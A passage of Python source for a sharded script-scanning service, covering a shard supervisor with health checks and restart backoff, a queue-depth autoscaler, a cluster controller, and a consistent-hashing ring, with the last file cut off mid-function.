    def _metric_restarts(self, shard_id: str):
        """Per-shard restart counter, created on first use (the fleet is
        dynamic under autoscaling, so ids are not known up front)."""
        if self._metrics is None:
            return None
        counter = self._m_restarts.get(shard_id)
        if counter is None:
            counter = self._metrics.counter(
                "repro_shard_restarts_total",
                "Shard daemons replaced by the supervisor",
                labels={"shard": shard_id},
            )
            self._m_restarts[shard_id] = counter
        return counter

    def _set_up(self, shard_id: str, value: int) -> None:
        if self._metrics is None:
            return
        gauge = self._m_up.get(shard_id)
        if gauge is None:
            gauge = self._metrics.gauge(
                "repro_shard_up",
                "1 while the shard answers health checks",
                labels={"shard": shard_id},
            )
            self._m_up[shard_id] = gauge
        gauge.set(value)

    # -------------------------------------------------------------- lifecycle

    async def start(self) -> None:
        """Spawn every shard, await readiness, start the health loop."""
        for i in range(self.n_shards):
            self.shards[f"shard-{i}"] = self._spawn(f"shard-{i}")
        await asyncio.gather(*(self._wait_ready(spec) for spec in self.shards.values()))
        self._task = asyncio.create_task(self._health_loop())

    async def stop(self) -> None:
        self._closed = True
        if self._task is not None:
            self._task.cancel()
            try:
                await self._task
            except asyncio.CancelledError:
                pass
            self._task = None
        for spec in self.shards.values():
            self._terminate(spec.process)

    def _terminate(self, process: subprocess.Popen) -> None:
        if process.poll() is None:
            process.terminate()
            try:
                process.wait(timeout=10)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(timeout=10)

    # ------------------------------------------------------------------ scale

    def next_shard_id(self) -> str:
        """The lowest free stable id — re-adding a recently removed id
        restores its exact former ring arcs."""
        i = 0
        while f"shard-{i}" in self.shards:
            i += 1
        return f"shard-{i}"

    async def add_shard(self) -> str:
        """Grow the fleet by one shard; returns its id once it is ready."""
        shard_id = self.next_shard_id()
        spec = self._spawn(shard_id)
        try:
            # Published into self.shards only once ready: the health loop
            # runs concurrently with this wait, and a booting shard that
            # cannot answer /v1/healthz yet would read as wedged and get
            # terminated mid-boot.
            await self._wait_ready(spec)
        except RuntimeError:
            # The newcomer failed to boot: withdraw it rather than leaving
            # a permanently dark member in the fleet.
            self._terminate(spec.process)
            raise
        self.shards[shard_id] = spec
        self.n_shards = len(self.shards)
        self.log.info("shard added", extra={"shard": shard_id, "n_shards": self.n_shards})
        return shard_id

    def pick_removal(self) -> str | None:
        """The shard a scale-down should retire: the highest-index one
        (so the stable low ids — and their warm arcs — survive)."""
        if len(self.shards) <= 1:
            return None
        return sorted(self.shards)[-1]

    async def remove_shard(self, shard_id: str) -> None:
        """Shrink the fleet: SIGTERM (the daemon drains) and forget."""
        spec = self.shards.pop(shard_id, None)
        if spec is None:
            return
        self.n_shards = len(self.shards)
        self._set_up(shard_id, 0)
        self._terminate(spec.process)
        self.log.info("shard removed", extra={"shard": shard_id, "n_shards": self.n_shards})

    # ------------------------------------------------------------------ spawn

    def _spawn(self, shard_id: str) -> ShardSpec:
        port = free_port(self.bind)
        argv = [
            sys.executable,
            "-m",
            "repro.cli",
            "serve",
            "--model",
            self.model_dir,
            "--host",
            self.bind,
            "--port",
            str(port),
        ]
        if self.cache_dir is not None:
            argv += ["--cache-dir", self.cache_dir]
        argv += self.shard_args
        env = dict(os.environ)
        # Shards must import the same repro the supervisor runs, even when
        # it was never pip-installed (tests, CI): prepend its parent dir.
        import repro

        src_dir = os.path.dirname(os.path.dirname(os.path.abspath(repro.__file__)))
        env["PYTHONPATH"] = src_dir + os.pathsep + env.get("PYTHONPATH", "")
        env["REPRO_SHARD_ID"] = shard_id
        env.update(self.shard_env.get(shard_id, {}))
        process = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL)
        self.log.info(
            "shard spawned", extra={"shard": shard_id, "port": port, "shard_pid": process.pid}
        )
        return ShardSpec(shard_id=shard_id, host=self.bind, port=port, process=process)

    async def _wait_ready(self, spec: ShardSpec) -> None:
        deadline = time.monotonic() + self.ready_timeout_s
        while True:
            if spec.process.poll() is not None:
                raise RuntimeError(
                    f"{spec.shard_id} exited with {spec.process.returncode} before ready"
                )
            try:
                response = await fetch(
                    spec.host, spec.port, "GET", f"{V1_PREFIX}/healthz", timeout_s=self.health_timeout_s
                )
                if response.status == 200:
                    spec.last_health = parse_envelope(response.status, response.body) or {}
                    spec.healthy = True
                    spec.consecutive_fails = 0
                    spec.state = SHARD_READY
                    spec.ready_at = self.clock()
                    self._set_up(spec.shard_id, 1)
                    return
            except Exception:
                pass  # not accepting yet (or mid-start); keep polling
            if time.monotonic() >= deadline:
                self._terminate(spec.process)
                raise RuntimeError(f"{spec.shard_id} not ready within {self.ready_timeout_s:g}s")
            await asyncio.sleep(0.05)

    # ----------------------------------------------------------------- health

    def mark_suspect(self, shard_id: str) -> None:
        """Router hint: this shard just failed a request — check it *now*."""
        self._suspects.add(shard_id)
        self._wake.set()

    @property
    def unhealthy(self) -> set[str]:
        return {shard_id for shard_id, spec in self.shards.items() if not spec.healthy}

    async def _health_loop(self) -> None:
        while not self._closed:
            try:
                await asyncio.wait_for(self._wake.wait(), timeout=self.health_interval_s)
            except asyncio.TimeoutError:
                pass
            self._wake.clear()
            suspects, self._suspects = self._suspects, set()
            for spec in list(self.shards.values()):
                if self.shards.get(spec.shard_id) is not spec:
                    continue  # removed or replaced mid-iteration
                urgent = spec.shard_id in suspects
                try:
                    await self._check(spec, urgent=urgent)
                except asyncio.CancelledError:
                    raise
                except Exception as error:  # supervision must outlive any bug
                    self.log.warning(
                        "health check error", extra={"shard": spec.shard_id, "error": repr(error)}
                    )

    async def _check(self, spec: ShardSpec, urgent: bool = False) -> None:
        if spec.process.poll() is not None:  # the process is simply gone
            self._note_death(spec, reason=f"exited {spec.process.returncode}")
            if self.clock() >= spec.next_restart_at:
                await self._respawn(spec)
            return
        try:
            response = await fetch(
                spec.host, spec.port, "GET", f"{V1_PREFIX}/healthz", timeout_s=self.health_timeout_s
            )
            if response.status != 200:
                raise RuntimeError(f"healthz answered {response.status}")
            spec.last_health = parse_envelope(response.status, response.body) or {}
            spec.healthy = True
            spec.consecutive_fails = 0
            if spec.state != SHARD_READY:
                spec.state = SHARD_READY
                spec.ready_at = self.clock()
            elif spec.death_streak and self.clock() - spec.ready_at >= self.healthy_reset_s:
                # A sustained healthy stretch forgives past deaths: the
                # next crash starts a fresh backoff schedule.
                spec.death_streak = 0
            self._set_up(spec.shard_id, 1)
        except asyncio.CancelledError:
            raise
        except Exception as error:
            spec.consecutive_fails += 1
            threshold = 1 if urgent else self.fail_threshold
            if spec.consecutive_fails >= threshold:
                # Alive but wedged: same accounting as a death — terminate
                # and go through the backoff schedule.
                self._note_death(spec, reason=repr(error))
                if self.clock() >= spec.next_restart_at:
                    await self._respawn(spec)
            else:
                spec.healthy = False
                spec.state = SHARD_UNHEALTHY
                self._set_up(spec.shard_id, 0)

    def _note_death(self, spec: ShardSpec, reason: str = "") -> None:
        """Account one process death: bump the streak, compute when (and
        whether) the next respawn may happen.  Idempotent per incarnation."""
        if spec.death_noted:
            return
        spec.death_noted = True
        spec.healthy = False
        self._set_up(spec.shard_id, 0)
        now = self.clock()
        if spec.state == SHARD_READY and spec.ready_at and now - spec.ready_at >= self.healthy_reset_s:
            spec.death_streak = 0  # it served honestly for a while
        spec.death_streak += 1
        if spec.death_streak > self.restart_budget:
            spec.state = SHARD_CRASH_LOOP
            spec.next_restart_at = now + self.crash_loop_retry_s
            if self._m_crash_loops is not None:
                self._m_crash_loops.inc()
            self.log.warning(
                "shard crash-looping; restart budget exhausted",
                extra={
                    "shard": spec.shard_id,
                    "death_streak": spec.death_streak,
                    "retry_in_s": self.crash_loop_retry_s,
                    "reason": reason,
                },
            )
            return
        if spec.death_streak == 1:
            delay = 0.0  # first death: replace immediately (the common case)
        else:
            delay = min(
                self.restart_backoff_s * (2 ** (spec.death_streak - 2)),
                self.restart_backoff_max_s,
            )
        spec.state = SHARD_BACKOFF if delay else SHARD_STARTING
        spec.next_restart_at = now + delay
        self.log.warning(
            "shard died",
            extra={
                "shard": spec.shard_id,
                "death_streak": spec.death_streak,
                "restart_delay_s": delay,
                "reason": reason,
            },
        )

    async def _respawn(self, spec: ShardSpec) -> None:
        """Respawn one shard under its stable id (fresh port, same arcs)."""
        self._terminate(spec.process)
        self.respawn_log.append((spec.shard_id, self.clock()))
        fresh = self._spawn(spec.shard_id)
        fresh.restarts = spec.restarts + 1
        fresh.death_streak = spec.death_streak
        # Not healthy until it answers /v1/healthz: the router must route
        # around it (and health snapshots must say so) while it boots.
        fresh.healthy = False
        fresh.state = SHARD_STARTING
        self.shards[spec.shard_id] = fresh
        counter = self._metric_restarts(spec.shard_id)
        if counter is not None:
            counter.inc()
        try:
            await self._wait_ready(fresh)
        except RuntimeError:
            # Died (or hung) during boot: the next health tick notes the
            # death and the backoff schedule stretches further.
            fresh.healthy = False

    # ------------------------------------------------------------------- roll

    async def rolling_reload(
        self,
        model_dir: str,
        timeout_s: float = 120.0,
        ring: "HashRing | None" = None,
        replicas: int = 1,
    ) -> list[dict]:
        """Reload the model shard-by-shard; stop at the first failure.

        Each shard keeps serving throughout (the swap happens between
        micro-batches inside the daemon); sequencing means a bad model
        directory burns at most one shard's epoch, never the fleet's.

        Given a ``ring`` and a replica count, the roll is
        **replica-aware**: before touching a shard it waits until every
        co-replica of that shard (any shard sharing a slot's replica set
        with it) is healthy, so no slot ever has all of its copies
        disrupted at once — and shards parked in ``crash_loop`` are
        skipped (they are not serving; the reload must not wedge on
        them).  They boot the new model when their retry timer respawns
        them, because ``self.model_dir`` is updated first.
        """
        # Replacements spawned from now on boot the new model — but if the
        # roll dies before ANY shard accepted it (the bad-model-dir case),
        # the old directory is restored: a rejected reload must not poison
        # every future respawn.
        previous_model_dir, self.model_dir = self.model_dir, model_dir
        results: list[dict] = []
        body = json.dumps({"model_dir": model_dir}).encode("utf-8")
        try:
            return await self._roll(body, results, timeout_s, ring, replicas)
        except BaseException:
            if not any("epoch" in entry for entry in results):
                self.model_dir = previous_model_dir
            raise

    async def _roll(
        self,
        body: bytes,
        results: list[dict],
        timeout_s: float,
        ring: "HashRing | None",
        replicas: int,
    ) -> list[dict]:
        for shard_id in sorted(self.shards):
            spec = self.shards[shard_id]
            if spec.state == SHARD_CRASH_LOOP:
                self.log.warning(
                    "shard skipped in rolling reload (crash_loop)", extra={"shard": shard_id}
                )
                results.append({"shard": shard_id, "skipped": "crash_loop"})
                continue
            if ring is not None:
                await self._await_co_replicas_healthy(shard_id, ring, replicas, timeout_s)
            deadline = time.monotonic() + timeout_s
            while True:
                # Re-read per attempt: a shard mid-replacement comes back
                # under the same id on a fresh port — roll the newcomer
                # rather than failing the whole fleet's upgrade.
                spec = self.shards[shard_id]
                try:
                    response = await fetch(
                        spec.host, spec.port, "POST", f"{V1_PREFIX}/admin/reload",
                        body=body, timeout_s=timeout_s,
                    )
                    data = parse_envelope(response.status, response.body)  # raises on error envelope
                    break
                except EnvelopeError:
                    raise  # the shard *answered* with a failure: a bad model dir
                except Exception as error:
                    if time.monotonic() >= deadline:
                        raise RuntimeError(
                            f"{shard_id} unreachable during rolling reload: {error!r}"
                        ) from error
                    await asyncio.sleep(0.25)
            spec.last_health = dict(spec.last_health, epoch=data["epoch"],
                                    model_fingerprint=data["model_fingerprint"])
            self.log.info(
                "shard rolled",
                extra={"shard": shard_id, "epoch": data["epoch"]},
            )
            results.append({"shard": shard_id, **data})
        return results

    async def _await_co_replicas_healthy(
        self, shard_id: str, ring: "HashRing", replicas: int, timeout_s: float
    ) -> None:
        """Block until every live co-replica of ``shard_id`` is healthy.

        Rolling a shard while one of its co-replicas is down would leave
        some slot with zero undisturbed copies; waiting here keeps the
        invariant that at most one member of any replica set is being
        touched at a time.  Co-replicas parked in ``crash_loop`` are not
        waited for — they are already out of every serving path.
        """
        deadline = time.monotonic() + timeout_s
        while True:
            peers = ring.co_replicas(shard_id, max(replicas, 1))
            blocking = [
                peer
                for peer in peers
                if peer in self.shards
                and not self.shards[peer].healthy
                and self.shards[peer].state != SHARD_CRASH_LOOP
            ]
            if not blocking:
                return
            if time.monotonic() >= deadline:
                raise RuntimeError(
                    f"cannot roll {shard_id}: co-replicas {sorted(blocking)} unhealthy"
                )
            await asyncio.sleep(0.25)

    # --------------------------------------------------------------- snapshot

    def snapshot(self) -> list[dict]:
        now = self.clock()
        return [
            {
                "shard": shard_id,
                "host": spec.host,
                "port": spec.port,
                "pid": spec.pid,
                "healthy": spec.healthy,
                "state": spec.state,
                "restarts": spec.restarts,
                "death_streak": spec.death_streak,
                "next_restart_s": (
                    round(max(spec.next_restart_at - now, 0.0), 3)
                    if not spec.healthy and spec.next_restart_at > now
                    else None
                ),
                "queue_depth": spec.last_health.get("queue_depth"),
                "epoch": spec.last_health.get("epoch"),
                "model_fingerprint": spec.last_health.get("model_fingerprint"),
            }
            for shard_id, spec in sorted(self.shards.items())
        ]
