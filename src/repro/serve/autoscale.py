"""Queue-depth autoscaling for the shard fleet.

The shards already export the signal (``queue_depth`` in every
``/v1/healthz`` answer, mirrored by ``repro_serve_queue_depth``); this
module turns it into fleet-size decisions.  The decision logic is a pure
function of (snapshot, clock) — no I/O, no sleeping — so the whole
policy is testable on a fake clock; the cluster controller owns the
loop that applies decisions (spawn/retire shards, resync the router's
hash ring).

Policy, deliberately boring:

* **pressure** — mean queue depth across *serving* shards at or above
  ``up_queue_depth``, sustained for ``sustain_s`` → grow by one, up to
  ``max_shards``,
* **idle** — mean depth at or below ``down_queue_depth`` (a band well
  under the up threshold: hysteresis, so the fleet never flaps on a
  workload sitting near one threshold), sustained → shrink by one, down
  to ``min_shards``,
* **cool-down** — after any scaling action, no further action for
  ``cooldown_s``: a new shard needs time to take traffic before its
  effect on queue depth is measurable, and retiring two shards on one
  idle spell would overshoot.

Crash-looping shards are excluded from the mean (they serve nothing),
but still count against ``max_shards`` — autoscaling must not mask a
crash loop by quietly spawning unlimited replacements.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Callable

from .supervisor import SHARD_CRASH_LOOP

if TYPE_CHECKING:  # pragma: no cover
    from repro.obs import MetricsRegistry

SCALE_UP = 1
SCALE_DOWN = -1
HOLD = 0


@dataclass
class AutoscaleConfig:
    """Autoscaler knobs; mirrors the ``repro cluster`` CLI flags."""

    min_shards: int = 1
    max_shards: int = 4
    up_queue_depth: float = 8.0  # mean queued scripts per serving shard
    down_queue_depth: float = 1.0  # hysteresis band floor
    sustain_s: float = 5.0  # pressure/idleness must persist this long
    cooldown_s: float = 30.0  # minimum gap between scaling actions
    interval_s: float = 1.0  # controller evaluation tick

    def validate(self) -> None:
        if self.min_shards < 1:
            raise ValueError("min_shards must be positive")
        if self.max_shards < self.min_shards:
            raise ValueError("max_shards must be >= min_shards")
        if self.down_queue_depth >= self.up_queue_depth:
            raise ValueError(
                "down_queue_depth must be strictly below up_queue_depth (hysteresis)"
            )
        if self.sustain_s < 0 or self.cooldown_s < 0:
            raise ValueError("sustain_s and cooldown_s must be non-negative")
        if self.interval_s <= 0:
            raise ValueError("interval_s must be positive")


class Autoscaler:
    """Pure scale-up/scale-down decisions from fleet snapshots."""

    def __init__(
        self,
        config: AutoscaleConfig | None = None,
        clock: Callable[[], float] = time.monotonic,
        metrics: "MetricsRegistry | None" = None,
    ):
        self.config = config or AutoscaleConfig()
        self.config.validate()
        self.clock = clock
        self._pressure_since: float | None = None
        self._idle_since: float | None = None
        self._last_action_at: float | None = None
        self._m_decisions = None
        self._m_shards = None
        if metrics is not None:
            self._m_decisions = {
                direction: metrics.counter(
                    "repro_autoscale_decisions_total",
                    "Fleet scaling actions decided by the autoscaler",
                    labels={"direction": direction},
                )
                for direction in ("up", "down")
            }
            self._m_shards = metrics.gauge(
                "repro_cluster_shards", "Current shard count behind the router"
            )

    def status(self) -> dict:
        """Current posture for ``/v1/status`` — config plus the sustain
        state machine's timers (seconds each condition has held)."""
        now = self.clock()
        return {
            "min_shards": self.config.min_shards,
            "max_shards": self.config.max_shards,
            "up_queue_depth": self.config.up_queue_depth,
            "down_queue_depth": self.config.down_queue_depth,
            "pressure_for_s": (
                round(now - self._pressure_since, 3) if self._pressure_since is not None else None
            ),
            "idle_for_s": (
                round(now - self._idle_since, 3) if self._idle_since is not None else None
            ),
            "cooldown_remaining_s": (
                round(max(self.config.cooldown_s - (now - self._last_action_at), 0.0), 3)
                if self._last_action_at is not None
                else 0.0
            ),
        }

    @staticmethod
    def mean_queue_depth(snapshot: list[dict]) -> float | None:
        """Mean queue depth over serving shards; ``None`` when no shard
        has reported one yet (boot) or none is serving."""
        depths = [
            float(entry["queue_depth"])
            for entry in snapshot
            if entry.get("healthy")
            and entry.get("state") != SHARD_CRASH_LOOP
            and entry.get("queue_depth") is not None
        ]
        if not depths:
            return None
        return sum(depths) / len(depths)

    def observe(self, snapshot: list[dict]) -> int:
        """One evaluation tick: returns ``SCALE_UP``, ``SCALE_DOWN``, or
        ``HOLD``.  The caller applies the decision; this object only
        tracks the sustain/cool-down state machine."""
        now = self.clock()
        n_shards = len(snapshot)
        if self._m_shards is not None:
            self._m_shards.set(n_shards)
        mean = self.mean_queue_depth(snapshot)
        if mean is None:
            self._pressure_since = None
            self._idle_since = None
            return HOLD

        if mean >= self.config.up_queue_depth:
            self._idle_since = None
            if self._pressure_since is None:
                self._pressure_since = now
            if (
                now - self._pressure_since >= self.config.sustain_s
                and self._cooled(now)
                and n_shards < self.config.max_shards
            ):
                self._act(now)
                if self._m_decisions is not None:
                    self._m_decisions["up"].inc()
                return SCALE_UP
            return HOLD

        if mean <= self.config.down_queue_depth:
            self._pressure_since = None
            if self._idle_since is None:
                self._idle_since = now
            if (
                now - self._idle_since >= self.config.sustain_s
                and self._cooled(now)
                and n_shards > self.config.min_shards
            ):
                self._act(now)
                if self._m_decisions is not None:
                    self._m_decisions["down"].inc()
                return SCALE_DOWN
            return HOLD

        # Inside the hysteresis band: neither streak survives.
        self._pressure_since = None
        self._idle_since = None
        return HOLD

    def _cooled(self, now: float) -> bool:
        return self._last_action_at is None or now - self._last_action_at >= self.config.cooldown_s

    def _act(self, now: float) -> None:
        self._last_action_at = now
        self._pressure_since = None
        self._idle_since = None
