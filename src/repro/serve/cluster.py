"""The sharded scan tier, assembled: supervisor + router in one process.

``repro cluster --model m --shards N`` (or ``repro serve --shards N``)
boots:

* N **scan shards** — ordinary ``repro serve`` daemons on loopback
  ports, sharing one on-disk feature cache, owned by a
  :class:`~repro.serve.supervisor.ShardSupervisor`,
* one **router** — the only listener clients see
  (:class:`~repro.serve.router.ScanRouter`), consistent-hashing scans
  across the shards and retrying around failures.

The controller owns startup order (shards ready before the router
listens) and teardown order (router first, so no request arrives at a
half-dismantled fleet), plus the optional **autoscale loop**: when the
config carries an :class:`~repro.serve.autoscale.AutoscaleConfig`, a
background task feeds fleet snapshots to the
:class:`~repro.serve.autoscale.Autoscaler` and applies its decisions —
spawn a shard and add it to the router's ring, or pull a shard *out of
the ring first* and then retire it (no request may be routed to a shard
being torn down).  :class:`BackgroundCluster` is the test/bench
wrapper, mirroring :class:`~repro.serve.app.BackgroundServer`.
"""

from __future__ import annotations

import asyncio
import contextlib
import signal
import sys
import threading
from dataclasses import dataclass, field

from repro.obs import MetricsRegistry, get_logger

from .autoscale import HOLD, SCALE_DOWN, SCALE_UP, AutoscaleConfig, Autoscaler
from .router import RouterConfig, ScanRouter
from .supervisor import ShardSupervisor


@dataclass
class ClusterConfig:
    """Knobs for the whole tier; mirrors the ``repro cluster`` CLI flags."""

    model_dir: str = ""
    n_shards: int = 2
    host: str = "127.0.0.1"
    port: int = 8076  # router port; 0 = ephemeral
    #: Shard bind/dial host; ``None`` = same as ``host``.  ``--bind
    #: 127.0.0.1`` keeps shards loopback-only while the router listens
    #: on an outward interface.
    bind: str | None = None
    cache_dir: str | None = None  # shared across shards (single-flight lives here)
    shard_args: list[str] = field(default_factory=list)  # extra `repro serve` flags
    router: RouterConfig = field(default_factory=RouterConfig)
    #: ``None`` = fixed fleet; set to enable queue-depth autoscaling
    #: between ``autoscale.min_shards`` and ``autoscale.max_shards``.
    autoscale: AutoscaleConfig | None = None
    health_interval_s: float = 0.5
    ready_timeout_s: float = 120.0
    restart_backoff_s: float = 0.5
    restart_backoff_max_s: float = 30.0
    restart_budget: int = 5
    crash_loop_retry_s: float = 300.0

    def validate(self) -> None:
        if not self.model_dir:
            raise ValueError("model_dir is required")
        if self.n_shards < 1:
            raise ValueError("n_shards must be positive")
        self.router.validate()
        if self.autoscale is not None:
            self.autoscale.validate()
            if not (self.autoscale.min_shards <= self.n_shards <= self.autoscale.max_shards):
                raise ValueError(
                    "initial n_shards must lie within [min_shards, max_shards]"
                )


class ClusterController:
    """Boots and tears down one supervisor + router pair."""

    def __init__(self, config: ClusterConfig, metrics: MetricsRegistry | None = None):
        config.validate()
        self.config = config
        self.metrics = metrics or MetricsRegistry()
        self.log = get_logger("cluster")
        self.supervisor = ShardSupervisor(
            model_dir=config.model_dir,
            n_shards=config.n_shards,
            host=config.host,
            bind=config.bind,
            cache_dir=config.cache_dir,
            shard_args=config.shard_args,
            metrics=self.metrics,
            health_interval_s=config.health_interval_s,
            ready_timeout_s=config.ready_timeout_s,
            restart_backoff_s=config.restart_backoff_s,
            restart_backoff_max_s=config.restart_backoff_max_s,
            restart_budget=config.restart_budget,
            crash_loop_retry_s=config.crash_loop_retry_s,
        )
        router_config = config.router
        router_config.host = config.host
        router_config.port = config.port
        self.router = ScanRouter(self.supervisor, router_config, metrics=self.metrics)
        self.autoscaler: Autoscaler | None = (
            Autoscaler(config.autoscale, metrics=self.metrics)
            if config.autoscale is not None
            else None
        )
        if self.autoscaler is not None:
            # /v1/status reports autoscaler posture through this hook —
            # the router never imports the autoscaler directly.
            self.router.autoscale_status = self.autoscaler.status
        self._autoscale_task: asyncio.Task | None = None

    @property
    def bound_port(self) -> int | None:
        return self.router.bound_port

    async def start(self) -> None:
        try:
            await self.supervisor.start()
        except BaseException:
            await self.supervisor.stop()
            raise
        await self.router.start()
        if self.autoscaler is not None:
            self._autoscale_task = asyncio.create_task(self._autoscale_loop())

    async def stop(self) -> None:
        if self._autoscale_task is not None:
            self._autoscale_task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._autoscale_task
            self._autoscale_task = None
        await self.router.stop()
        await self.supervisor.stop()

    async def _autoscale_loop(self) -> None:
        assert self.autoscaler is not None
        interval = self.autoscaler.config.interval_s
        while True:
            await asyncio.sleep(interval)
            try:
                decision = self.autoscaler.observe(self.supervisor.snapshot())
                if decision == HOLD:
                    continue
                await self.apply_scale(decision)
            except asyncio.CancelledError:
                raise
            except Exception as error:  # the loop must outlive one bad tick
                self.log.warning("autoscale tick failed", extra={"error": repr(error)})

    async def apply_scale(self, decision: int) -> str | None:
        """Apply one autoscaler decision; returns the affected shard id.

        Ordering is load-bearing: on scale-up the shard is ready *before*
        the ring learns about it; on scale-down the ring stops routing to
        the shard *before* it is terminated — either way no request is
        ever routed at a shard that cannot serve.
        """
        if decision == SCALE_UP:
            shard_id = await self.supervisor.add_shard()
            self.router.sync_ring()
            self.log.info("scaled up", extra={"shard": shard_id})
            return shard_id
        if decision == SCALE_DOWN:
            shard_id = self.supervisor.pick_removal()
            if shard_id is None:
                return None
            self.router.ring.remove(shard_id)
            await self.supervisor.remove_shard(shard_id)
            self.log.info("scaled down", extra={"shard": shard_id})
            return shard_id
        return None

    async def run_until_signaled(self, signals=(signal.SIGTERM, signal.SIGINT)) -> None:
        loop = asyncio.get_running_loop()
        stop_event = asyncio.Event()
        for signum in signals:
            loop.add_signal_handler(signum, stop_event.set)
        try:
            await self.start()
            print(
                f"repro.cluster router on http://{self.config.host}:{self.bound_port} "
                f"({self.config.n_shards} shards)",
                file=sys.stderr,
                flush=True,
            )
            await stop_event.wait()
            print("repro.cluster stopping…", file=sys.stderr, flush=True)
        finally:
            for signum in signals:
                loop.remove_signal_handler(signum)
            await self.stop()


def run_cluster(config: ClusterConfig) -> int:
    """Blocking entry point used by the CLI; returns the exit code."""
    controller = ClusterController(config)
    try:
        asyncio.run(controller.run_until_signaled())
    except KeyboardInterrupt:  # signal handler not installable (rare)
        return 0
    return 0


class BackgroundCluster:
    """A whole cluster on a daemon thread — tests, benches, and notebooks.

    Usage::

        with BackgroundCluster(ClusterConfig(model_dir=..., n_shards=2, port=0)) as cluster:
            ScanClient(cluster.url).scan("alert(1)")
    """

    def __init__(self, config: ClusterConfig):
        self.config = config
        self.controller: ClusterController | None = None
        self.port: int | None = None
        self._ready = threading.Event()
        self._startup_error: BaseException | None = None
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stop_event: asyncio.Event | None = None
        self._thread: threading.Thread | None = None

    @property
    def host(self) -> str:
        return self.config.host

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    def __enter__(self) -> "BackgroundCluster":
        self._thread = threading.Thread(target=self._thread_main, daemon=True)
        self._thread.start()
        # Shard boot includes a model load per shard; generous timeout.
        if not self._ready.wait(timeout=300):
            raise RuntimeError("background cluster failed to start in time")
        if self._startup_error is not None:
            raise RuntimeError("background cluster failed to start") from self._startup_error
        return self

    def __exit__(self, *exc) -> bool:
        self.stop()
        return False

    def stop(self) -> None:
        if self._loop is not None and self._stop_event is not None:
            self._loop.call_soon_threadsafe(self._stop_event.set)
        if self._thread is not None:
            self._thread.join(timeout=60)
            self._thread = None

    def call_soon(self, fn, *args) -> None:
        """Run ``fn`` on the cluster's event loop (tests poking internals)."""
        assert self._loop is not None
        self._loop.call_soon_threadsafe(fn, *args)

    def _thread_main(self) -> None:
        try:
            asyncio.run(self._amain())
        except BaseException as error:  # surface startup failures to __enter__
            self._startup_error = error
            self._ready.set()

    async def _amain(self) -> None:
        self.controller = ClusterController(self.config)
        self._loop = asyncio.get_running_loop()
        self._stop_event = asyncio.Event()
        await self.controller.start()
        self.port = self.controller.bound_port
        self._ready.set()
        try:
            await self._stop_event.wait()
        finally:
            await self.controller.stop()
