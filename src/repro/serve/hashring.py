"""Consistent hashing of content keys onto scan shards.

The router picks a shard per script by SHA-256 of the source — the same
content key the feature cache uses — so every copy of a given script
lands on the same shard and its warm in-memory LRU. A plain
``hash % n`` would reshuffle almost every key when a shard is added or
replaced; the classic fix (Karger et al.) is a ring:

* each shard is hashed onto a 64-bit circle at ``vnodes`` points
  (virtual nodes smooth out placement variance),
* a key maps to the first shard point clockwise from its own hash,
* adding/removing one shard only moves the keys in that shard's arcs
  (~1/n of the keyspace), leaving every other shard's cache warm.

Ring points are derived from the **stable shard id** (``shard-0``,
``shard-1``, …), not the process or port: when the supervisor replaces a
dead shard, the replacement inherits the id and therefore the exact same
arcs — affinity survives the restart, and the shared disk cache refills
the newcomer's memory layer on first touch.
"""

from __future__ import annotations

import bisect
import hashlib


def _point(label: str) -> int:
    """A stable 64-bit ring position for one label."""
    return int.from_bytes(hashlib.sha256(label.encode("utf-8")).digest()[:8], "big")


class HashRing:
    """Consistent mapping from content keys to member ids."""

    def __init__(self, members: list[str] | None = None, vnodes: int = 64):
        if vnodes < 1:
            raise ValueError("vnodes must be positive")
        self.vnodes = vnodes
        self._members: set[str] = set()
        self._points: list[int] = []  # sorted ring positions
        self._owners: list[str] = []  # _owners[i] owns _points[i]
        for member in members or []:
            self.add(member)

    def __len__(self) -> int:
        return len(self._members)

    def __contains__(self, member: str) -> bool:
        return member in self._members

    @property
    def members(self) -> list[str]:
        return sorted(self._members)

    def add(self, member: str) -> None:
        if member in self._members:
            return
        self._members.add(member)
        for i in range(self.vnodes):
            point = _point(f"{member}#{i}")
            index = bisect.bisect(self._points, point)
            self._points.insert(index, point)
            self._owners.insert(index, member)

    def remove(self, member: str) -> None:
        if member not in self._members:
            return
        self._members.discard(member)
        keep = [(p, o) for p, o in zip(self._points, self._owners) if o != member]
        self._points = [p for p, _ in keep]
        self._owners = [o for _, o in keep]

    def node_for(self, key: str, exclude: set[str] | None = None) -> str | None:
        """The member owning ``key``; ``None`` if the ring is empty.

        ``exclude`` skips members (e.g. shards currently marked
        unhealthy) while preserving the preference order — the key falls
        through to the next arc owner, and moves back the moment the
        excluded shard returns.
        """
        for member in self.preference(key):
            if exclude is None or member not in exclude:
                return member
        return None

    def preference(self, key: str):
        """Members in fall-through order for ``key`` (each exactly once)."""
        if not self._points:
            return
        start = bisect.bisect(self._points, _point(key)) % len(self._points)
        seen: set[str] = set()
        for offset in range(len(self._points)):
            owner = self._owners[(start + offset) % len(self._points)]
            if owner not in seen:
                seen.add(owner)
                yield owner

    def replicas(self, key: str, n: int) -> list[str]:
        """The ``n`` distinct members that replicate ``key``'s slot.

        The replica set is the first ``n`` owners in the key's preference
        order: the primary plus the next ``n - 1`` distinct shards
        clockwise.  Placement is deterministic (pure function of the
        member ids and the key) and stable under replacement — a shard
        respawned under its stable id rejoins exactly the replica sets it
        left.  Fewer than ``n`` members means every member replicates
        every key.
        """
        if n < 1:
            raise ValueError("replica count must be positive")
        out: list[str] = []
        for member in self.preference(key):
            out.append(member)
            if len(out) == n:
                break
        return out

    def co_replicas(self, member: str, n: int, samples: int = 128) -> set[str]:
        """Members that share at least one sampled key's replica set with
        ``member`` (``member`` itself excluded).

        Used by the replica-aware rolling reload: two shards that are
        co-replicas for some slot must never be disrupted concurrently,
        or that slot loses all its copies at once.  Sampling ``samples``
        probe keys per member pair is exact in practice — with 64 vnodes
        per member, any pair sharing arcs shows up within a handful of
        probes.
        """
        if member not in self._members:
            return set()
        out: set[str] = set()
        for i in range(samples):
            replica_set = self.replicas(f"{member}#probe-{i}", n)
            if member in replica_set:
                out.update(replica_set)
        # Probe keys derived from *other* members' neighborhoods too, so
        # arcs where ``member`` is a secondary replica are also sampled.
        for other in self._members:
            if other == member:
                continue
            for i in range(samples // max(len(self._members) - 1, 1) + 1):
